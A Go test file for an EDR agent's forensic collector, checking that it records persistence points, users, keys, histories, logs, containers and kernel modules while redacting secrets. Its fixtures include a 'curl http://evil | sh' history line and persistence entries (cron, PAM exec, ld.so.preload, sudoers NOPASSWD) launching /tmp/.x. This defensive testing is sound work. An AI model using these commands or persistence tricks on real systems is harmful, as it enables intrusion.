package collect

import (
	"archive/zip"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/vedette-edr/vedette/agent/recent"
	"github.com/vedette-edr/vedette/agent/responder/collect/archive"
)

const secretHash = "$6$salt$THISISTHEHASHOFAPASSWORD"

// throwaway makes a root with files; a text that begins with "-> " is a link.
func throwaway(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	base := map[string]string{
		"etc/passwd": "root:x:0:0:root:/root:/bin/bash\nann:x:1000:1000:Ann,=1+1:/home/ann:/bin/zsh\nsvc:x:99:99::/nonexistent:/usr/sbin/nologin\nall:x:98:98::/:/bin/false\n",
		"etc/group":  "root:x:0:\nsudo:x:27:ann\nann:x:1000:\n",
		"proc/stat":  "btime 1700000000\n",
		"root/":      "", "home/ann/": "",
	}
	for name, text := range files {
		base[name] = text
	}
	for name, text := range base {
		p := filepath.Join(dir, name)
		if strings.HasSuffix(name, "/") {
			if err := os.MkdirAll(p, 0o755); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		var err error
		if to, ok := strings.CutPrefix(text, "-> "); ok {
			err = os.Symlink(to, p)
		} else {
			err = os.WriteFile(p, []byte(text), 0o644)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// everything is the text of the whole package: what must not leave the device is in none of
// it.
func everything(t *testing.T, files map[string]*zip.File) string {
	t.Helper()
	var b strings.Builder
	for name, f := range files {
		b.WriteString(name + "\n")
		b.Write(contents(t, f))
	}
	return b.String()
}

func row(t *testing.T, f *zip.File, column, value string) map[string]string {
	t.Helper()
	for _, r := range rows(t, f) {
		if r[column] == value {
			return r
		}
	}
	t.Errorf("%s has no row with %s %q:\n%s", f.Name, column, value, contents(t, f))
	return map[string]string{}
}

func TestAutorunsOfAllKinds(t *testing.T) {
	dir := throwaway(t, map[string]string{
		"etc/systemd/system/evil.service":                         "[Service]\nExecStart=/tmp/.x --run\nExecStartPre=-/bin/true\n",
		"etc/systemd/system/multi-user.target.wants/evil.service": "-> ../evil.service",
		"home/ann/.config/systemd/user/u.timer":                   "[Timer]\nOnBootSec=5\n",
		"etc/cron.d/job\nname":                                    "* * * * * root /tmp/.x\n",
		"etc/rc.local":                                            "#!/bin/sh\n/tmp/.x &\n",
		"etc/ld.so.preload":                                       "/tmp/evil.so\n",
		"etc/udev/rules.d/99-x.rules":                             `ACTION=="add", RUN+="/tmp/.x"` + "\n",
		"etc/modules-load.d/x.conf":                               "evil\n",
		"etc/pam.d/sshd":                                          "auth optional pam_exec.so /tmp/.x\n",
		"lib/security/pam_evil.so":                                "\x7fELF binary",
		"home/ann/.ssh/authorized_keys":                           "",
		"home/ann/.bashrc":                                        "/tmp/.x\n",
		"home/ann/.config/autostart/x.desktop":                    "[Desktop Entry]\nExec=/tmp/.x\n",
		"home/ann/.zshrc":                                         "-> /etc/shadow",
		"etc/shadow":                                              "root:" + secretHash + ":19000:0:99999:7:::\n",
		"etc/apt/apt.conf.d/99hook":                               `DPkg::Post-Invoke {"/tmp/.x";}; Acquire::http::Proxy "http://u:hunter2@proxy:3128";` + "\n",
		"usr/share/dbus-1/system-services/x.service":              "[D-BUS Service]\nExec=/tmp/.x\n",
		"etc/sudoers.d/x":                                         "ann ALL=(ALL) NOPASSWD: ALL\n",
		"var/spool/cron/atjobs/a0001":                             "#!/bin/sh\n/tmp/.x\n",
		"etc/ssh/ssh_host_ed25519_key.pub":                        "ssh-ed25519 AAAA root@x\n",
	})
	if err := unix.Mkfifo(filepath.Join(dir, "home/ann/.profile"), 0o666); err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, a := range autoruns {
		names = append(names, "Autoruns: "+a.name)
	}
	files, ev := collected(t, only(t, Device{Root: dir}, names...))
	if len(ev.Wanting) > 0 {
		t.Errorf("not whole: %s", contents(t, files["CollectionSummaryReport.csv"]))
	}
	for _, c := range []struct{ table, path, starts string }{
		{"systemd", "/etc/systemd/system/evil.service", "/tmp/.x --run | -/bin/true"},
		{"systemd", "/home/ann/.config/systemd/user/u.timer", ""},
		{"cron", `"/etc/cron.d/job\nname"`, ""},
		{"init", "/etc/rc.local", ""}, {"loader", "/etc/ld.so.preload", ""}, {"kernel-modules", "/etc/modules-load.d/x.conf", ""},
		{"udev", "/etc/udev/rules.d/99-x.rules", ""}, {"PAM", "/etc/pam.d/sshd", ""}, {"PAM-modules", "/lib/security/pam_evil.so", ""},
		{"shell", "/home/ann/.bashrc", ""}, {"desktop", "/home/ann/.config/autostart/x.desktop", "/tmp/.x"}, {"package-managers", "/etc/apt/apt.conf.d/99hook", ""},
		{"dbus", "/usr/share/dbus-1/system-services/x.service", "/tmp/.x"}, {"sudo", "/etc/sudoers.d/x", ""}, {"at", "/var/spool/cron/atjobs/a0001", ""},
	} {
		r := row(t, files["Autoruns/"+c.table+".csv"], "Path", c.path)
		if len(r["SHA256"]) != 64 || c.starts != "" && r["Starts"] != c.starts {
			t.Errorf("%s: %v", c.path, r)
		}
	}
	if r := row(t, files["Autoruns/systemd.csv"], "Path", "/etc/systemd/system/multi-user.target.wants/evil.service"); r["LinkTarget"] != "../evil.service" || r["Type"] != "link" {
		t.Errorf("an enabled unit: %v", r)
	}
	if r := row(t, files["Autoruns/shell.csv"], "Path", "/home/ann/.zshrc"); r["Copy"] != "left out: a user's link is not followed" || r["LinkTarget"] != "/etc/shadow" {
		t.Errorf("a user's link: %v", r)
	}
	if r := row(t, files["Autoruns/shell.csv"], "Path", "/home/ann/.profile"); r["Type"] != "pipe" || r["SHA256"] != "" {
		t.Errorf("a pipe: %v", r)
	}
	if b := contents(t, files["Autoruns/cron/etc/cron.d/job%0Aname"]); string(b) != "* * * * * root /tmp/.x\n" {
		t.Errorf("a name with a newline: %q", b)
	}
	all := everything(t, files)
	for _, secret := range []string{"hunter2", "THISISTHEHASH", "\x7fELF binary"} {
		if strings.Contains(all, secret) {
			t.Errorf("%q left the device", secret)
		}
	}
	var m archive.Manifest
	if err := json.Unmarshal(contents(t, files["manifest.json"]), &m); err != nil || !slices.ContainsFunc(m.Files, func(i archive.Item) bool {
		return i.Name == "Autoruns/cron/etc/cron.d/job%0Aname" && i.Source == `"/etc/cron.d/job\nname"` && i.Modified != nil
	}) {
		t.Errorf("the manifest: %v", err)
	}
}

func TestUsersKeysAndHistories(t *testing.T) {
	dir := throwaway(t, map[string]string{
		"etc/shadow":                "root:" + secretHash + ":19000:0:99999:7::20000:\nann::19001:0:99999:7:::\nsvc:!*:1:::::\nall:!" + secretHash + ":1:0:99999:7:::\n",
		"home/ann/.bash_history":    "curl http://evil | sh\n",
		"home/ann/.python_history":  "-> /dev/null",
		"home/ann/.mysql_history":   "-> /etc/shadow",
		"home/gone/.zsh_history":    ": 1700000000:0;id\n",
		"root/.bash_history":        strings.Repeat("x", 3<<20),
		"home/ann/.ssh/known_hosts": "",
		"home/ann/.ssh/id_secret":   "-----BEGIN OPENSSH PRIVATE KEY-----\nTHEPRIVATEKEY\n-----END OPENSSH PRIVATE KEY-----\n",
		"var/log/lastlog":           "",
		"home/ann/.ssh/agent/.keep": "",
	})
	key := filepath.Join(t.TempDir(), "k")
	if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "ann's key", "-f", key).CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	pub, err := os.ReadFile(key + ".pub")
	if err != nil {
		t.Fatal(err)
	}
	authorized := filepath.Join(dir, "home/ann/.ssh/authorized_keys")
	if err := os.WriteFile(authorized, []byte("# comment\n"+`from="10.0.0.1,*.x",command="echo \"hi\" there" `+string(pub)+"garbage\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	files, ev := collected(t, only(t, Device{Root: dir}, "Users and groups", "SSH keys", "Shell history"))
	users := files["Users and Groups/Users.csv"]
	for name, want := range map[string]string{"root": "SHA-512", "ann": "none: no password is asked for", "svc": "locked", "all": "locked, SHA-512"} {
		if r := row(t, users, "Name", name); r["Password"] != want {
			t.Errorf("%s: %v", name, r)
		}
	}
	if r := row(t, users, "Name", "root"); r["PasswordChanged"] != "2022-01-08" || r["Expires"] != "2024-10-04" || r["Administrator"] != "1" {
		t.Errorf("root: %v", r)
	}
	if r := row(t, users, "Name", "ann"); r["FullName"] != "Ann,=1+1" || r["Administrator"] != "1" {
		t.Errorf("ann: %v", r)
	}
	if r := row(t, files["Users and Groups/Groups.csv"], "Name", "sudo"); r["Member"] != "ann" {
		t.Errorf("sudo: %v", r)
	}
	want := strings.Fields(tool(t, "ssh-keygen", "-lf", key+".pub"))[1]
	r := row(t, files["Users and Groups/SshKeys.csv"], "Fingerprint", want)
	if r["User"] != "ann" || r["Kind"] != "authorized" || r["Comment"] != "ann's key" || r["Line"] != "2" || r["Options"] != `from="10.0.0.1,*.x",command="echo \"hi\" there"` {
		t.Errorf("the key: %v", r)
	}
	if r := row(t, files["Users and Groups/SshKeys.csv"], "Path", "/home/ann/.ssh/id_secret"); r["Kind"] != "private" {
		t.Errorf("a private key: %v", r)
	}
	if b := contents(t, files["Shell history/home/ann/.bash_history"]); string(b) != "curl http://evil | sh\n" {
		t.Errorf("%q", b)
	}
	if b := contents(t, files["Shell history/home/gone/.zsh_history"]); len(b) == 0 {
		t.Error("the history of an account that is gone")
	}
	if b := contents(t, files["Shell history/home/ann/.python_history.link.txt"]); !strings.Contains(string(b), "/dev/null") {
		t.Errorf("a history that leads nowhere: %q", b)
	}
	if b := contents(t, files["Shell history/root/.bash_history"]); len(b) != 2<<20 || ev.Cut != 1 || !slices.Equal(ev.Wanting, []string{"Shell history"}) {
		t.Errorf("a long history: %d bytes; %+v", len(b), ev)
	}
	all := everything(t, files)
	for _, secret := range []string{"THISISTHEHASH", "THEPRIVATEKEY"} {
		if strings.Contains(all, secret) {
			t.Errorf("%q left the device", secret)
		}
	}
}

func TestSchedules(t *testing.T) {
	dir := throwaway(t, map[string]string{
		"etc/crontab":                    "SHELL=/bin/sh\n# m h\n17 * * * * root cd / && run-parts /etc/cron.hourly\n@reboot ann /tmp/.x  two\nbroken\n",
		"etc/cron.d/x":                   "*/5 * * * * svc /usr/bin/x =1\n",
		"var/spool/cron/crontabs/ann":    "0 3 * * 1 /home/ann/job.sh\nMAILTO=\"\"\n@daily echo hi\n",
		"etc/cron.daily/rotate":          "#!/bin/sh\n",
		"etc/anacrontab":                 "START=1\n1 5 cron.daily run-parts /etc/cron.daily\n",
		"etc/systemd/system/x.timer":     "[Timer]\nOnCalendar=daily\nUnit=y.service\n",
		"usr/lib/systemd/system/z.timer": "[Timer]\nOnBootSec=15min\n",
	})
	files, _ := collected(t, only(t, Device{Root: dir}, "Scheduled tasks"))
	var got []string
	for _, r := range rows(t, files["Scheduled tasks/ScheduledTasks.csv"]) {
		got = append(got, strings.Join([]string{r["Kind"], r["Source"], r["Line"], r["User"], r["Schedule"], r["Command"]}, "|"))
	}
	want := []string{
		"cron|/etc/crontab|3|root|17 * * * *|cd / && run-parts /etc/cron.hourly",
		"cron|/etc/crontab|4|ann|'@reboot|/tmp/.x two",
		"cron|/etc/cron.d/x|1|svc|*/5 * * * *|/usr/bin/x =1",
		"cron|/var/spool/cron/crontabs/ann|1|ann|0 3 * * 1|/home/ann/job.sh",
		"cron|/var/spool/cron/crontabs/ann|3|ann|'@daily|echo hi",
		"cron|/etc/cron.daily/rotate||root|'@daily|/etc/cron.daily/rotate",
		"anacron|/etc/anacrontab|2|root|every 1 days|run-parts /etc/cron.daily",
		"systemd timer|/etc/systemd/system/x.timer||system|OnCalendar=daily|Unit=y.service",
		"systemd timer|/usr/lib/systemd/system/z.timer||system|OnBootSec=15min|z.service",
	}
	if !slices.Equal(got, want) {
		t.Errorf("got:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestTemporaryRecentAndLogs(t *testing.T) {
	dir := throwaway(t, map[string]string{
		"tmp/.hidden/=cmd\x1b[2J": "payload", "tmp/link": "-> /etc/passwd", "var/tmp/x": "1", "usr/bin/su": "program", "usr/bin/old": "old", "opt/new.bin": "new",
		"var/log/auth.log": "first\n" + strings.Repeat("line\n", 2<<20), "var/log/empty": "", "var/log/app/a.log": "hello\n", "var/log/old.gz": strings.Repeat("z", 100),
		"state/secret": "the agent's own",
	})
	if err := os.Chmod(filepath.Join(dir, "usr/bin/su"), 0o755|os.ModeSetuid); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mkfifo(filepath.Join(dir, "tmp/pipe"), 0o666); err != nil {
		t.Fatal(err)
	}
	sparse := filepath.Join(dir, "var/log/huge.log")
	if err := os.WriteFile(sparse, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(sparse, 10<<30); err != nil {
		t.Fatal(err)
	}
	seen := []recent.Trace{{Time: time.Unix(1700000000, 0), Action: "ProcessCreated", Path: "/tmp/gone", PID: 7, Command: "/tmp/gone -x", Account: "ann"},
		{Time: time.Unix(1700000001, 0), Action: "FileCreated", Path: "/var/tmp/x"}}
	d := Device{Root: dir, Exclude: []string{filepath.Join(dir, "state")}, Recent: func() []recent.Trace { return seen }}
	files, ev := collected(t, only(t, d, "Temporary directories", "Recently created files", "Logs", "Programs run and files made, as the agent saw them", "Programs by last access"))

	tmp := files["Temp Directories/tmp.csv"]
	sum, _, _ := strings.Cut(tool(t, "sha256sum", filepath.Join(dir, "var/tmp/x")), " ")
	if r := row(t, files["Temp Directories/var_tmp.csv"], "Path", "/var/tmp/x"); r["SHA256"] != sum || r["Size"] != "1" {
		t.Errorf("%v", r)
	}
	if r := row(t, tmp, "Path", `"/tmp/.hidden/=cmd\x1b[2J"`); r["Size"] != "7" || r["SHA1"] == "" {
		t.Errorf("%v", r)
	}
	if r := row(t, tmp, "Path", "/tmp/link"); r["LinkTarget"] != "/etc/passwd" || r["SHA256"] != "" {
		t.Errorf("%v", r)
	}
	if r := row(t, tmp, "Path", "/tmp/pipe"); r["Type"] != "pipe" {
		t.Errorf("%v", r)
	}
	if r := row(t, files["Recent files/SetuidFiles.csv"], "Path", "/usr/bin/su"); r["Mode"] != "4755" {
		t.Errorf("%v", r)
	}
	if r := row(t, files["Recent files/RecentlyCreated.csv"], "Path", "/opt/new.bin"); r["Size"] != "3" {
		t.Errorf("%v", r)
	}
	if strings.Contains(string(contents(t, files["Recent files/RecentlyCreated.csv"])), "/state/") {
		t.Error("the agent's own files are listed")
	}
	var order []string
	for _, r := range rows(t, files["Recent files/RecentlySeen.csv"]) {
		order = append(order, r["Path"]+" "+r["ThereNow"])
	}
	if !slices.Equal(order, []string{"/var/tmp/x yes", "/tmp/gone no"}) {
		t.Errorf("seen: %q", order)
	}
	log := contents(t, files["Logs/var/log/auth.log"])
	if len(log) != maxLog || strings.HasPrefix(string(log), "first") || !strings.HasSuffix(string(log), "line\n") {
		t.Errorf("a long log: %d bytes", len(log))
	}
	if b := contents(t, files["Logs/var/log/huge.log"]); len(b) != maxLog {
		t.Errorf("a log of 10 GiB: %d bytes", len(b))
	}
	if b := contents(t, files["Logs/var/log/app/a.log"]); string(b) != "hello\n" {
		t.Errorf("%q", b)
	}
	if ev.Cut != 2 || !slices.Equal(ev.Wanting, []string{"Logs"}) {
		t.Errorf("what was cut is not told: %+v", ev)
	}
}

func TestContainersModulesAndServices(t *testing.T) {
	id := strings.Repeat("ab", 32)
	other := strings.Repeat("cd", 32)
	dir := throwaway(t, map[string]string{
		"var/lib/docker/containers/" + id + "/config.v2.json": `{"ID":"` + id + `","Name":"/web","Path":"nginx","Args":["-g","x"],"Created":"2026-01-02T03:04:05Z","State":{"StartedAt":"2026-01-02T03:04:06Z"},
			"Config":{"Image":"nginx:1","Env":["PASSWORD=hunter2"]},"MountPoints":{"/host":{"Source":"/","Destination":"/host","RW":true}}}`,
		"var/lib/docker/containers/" + id + "/hostconfig.json": `{"Privileged":true,"NetworkMode":"host","RestartPolicy":{"Name":"always"},"PortBindings":{"80/tcp":[{"HostIp":"0.0.0.0","HostPort":"8080"}]}}`,
		"var/lib/docker/containers/broken/config.v2.json":      "{",
		"proc/4/cgroup":         "0::/system.slice/docker-" + id + ".scope\n",
		"proc/5/cgroup":         "0::/kubepods/pod1/" + other + "\n",
		"proc/modules":          "evil 16384 0 - Live 0xffffffffc0000000 (OE)\nshy 4096 1 evil, Live 0x0\n",
		"sys/module/evil/taint": "OE\n", "sys/module/evil/srcversion": "ABC\n",
		"sys/module/ghost/initstate": "live\n", "sys/module/ghost/coresize": "512\n", "sys/module/builtin/parameters/x": "1",
		"proc/sys/kernel/tainted": "12288\n",
		"etc/init.d/evil":         "#!/bin/sh\n", "etc/rc2.d/S01evil": "-> ../init.d/evil",
	})
	files, ev := collected(t, only(t, Device{Root: dir}, "Containers", "Kernel modules", "Services"))
	if !slices.Equal(ev.Wanting, []string{"Containers"}) {
		t.Errorf("a broken file is not told: %+v", ev)
	}
	r := row(t, files["Containers/Containers.csv"], "Id", id)
	if r["Name"] != "web" || r["State"] != "running" || r["ProcessIds"] != "4" || r["Privileged"] != "privileged" || r["RestartPolicy"] != "always" || r["Mounts"] != "/:/host:rw" || r["Ports"] != "0.0.0.0:8080->80/tcp" || r["Command"] != "nginx -g x" {
		t.Errorf("%v", r)
	}
	if r := row(t, files["Containers/Containers.csv"], "Id", other); r["Runtime"] != "not known" || r["ProcessIds"] != "5" {
		t.Errorf("%v", r)
	}
	if strings.Contains(everything(t, files), "hunter2") {
		t.Error("the environment of a container left the device")
	}
	mods := files["Kernel/KernelModules.csv"]
	if r := row(t, mods, "Name", "evil"); r["Taint"] != "OE" || r["Listed"] != "proc and sysfs" || r["SourceVersion"] != "ABC" {
		t.Errorf("%v", r)
	}
	if r := row(t, mods, "Name", "shy"); r["Listed"] != "proc only" || r["UsedBy"] != "evil" {
		t.Errorf("%v", r)
	}
	if r := row(t, mods, "Name", "ghost"); r["Listed"] != "sysfs only" {
		t.Errorf("a module that hides from /proc/modules: %v", r)
	}
	if len(rows(t, mods)) != 3 {
		t.Errorf("%s", contents(t, mods))
	}
	if b := string(contents(t, files["Kernel/KernelTaint.txt"])); !strings.Contains(b, "unsigned module (E)") || !strings.Contains(b, "externally built module (O)") || strings.Contains(b, "warning") {
		t.Errorf("%s", b)
	}
	if r := row(t, files["Services/Services.csv"], "Service", "evil"); r["Enabled"] != "rc2.d" {
		t.Errorf("%v", r)
	}
}

func TestSecretsInSettingsAreLeftOut(t *testing.T) {
	for in, want := range map[string]string{
		"http_proxy=http://user:pass@proxy:3128/":                 "http_proxy=http://(left out)proxy:3128/",
		"password = hunter2":                                      "password = (left out)",
		"//srv/x /mnt cifs username=u,password=s3cret,vers=3 0 0": "//srv/x /mnt cifs username=u,password=(left out),vers=3 0 0",
		`"token": "abc"`:                                          `"token": (left out)`,
		"Acquire::Retries \"3\";":                                 "Acquire::Retries \"3\";",
		"PasswordAuthentication no":                               "PasswordAuthentication no",
	} {
		if got := string(veiled([]byte(in))); got != want {
			t.Errorf("%s: %s, want %s", in, got, want)
		}
	}
}
